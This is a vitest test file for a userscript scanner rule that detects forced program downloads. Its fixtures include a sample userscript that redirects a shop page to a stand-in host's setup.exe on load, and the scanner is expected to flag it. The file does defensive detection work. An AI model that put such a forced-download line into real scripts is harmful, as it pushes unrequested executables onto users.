import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { programDownload } from "./program-download.ts";

describe("program-download", () => {
	test.each([
		[
			"a program that is opened",
			["medium 5"],
			userscript(["match https://shop.example/*"], `location.href="https://files.stranger.test/setup.exe"`),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(programDownload, code)).toEqual(expected);
	});

	test.each([
		[
			"a program on a click",
			userscript(
				["match https://shop.example/*"],
				`const b=document.createElement("button");document.body.append(b);
b.onclick=()=>{location.href="https://files.stranger.test/setup.exe"}`,
			),
		],
		[
			"a picture",
			userscript(["match https://shop.example/*"], `new Image().src="https://files.stranger.test/setup.png"`),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(programDownload, code)).toEqual([]);
	});
});
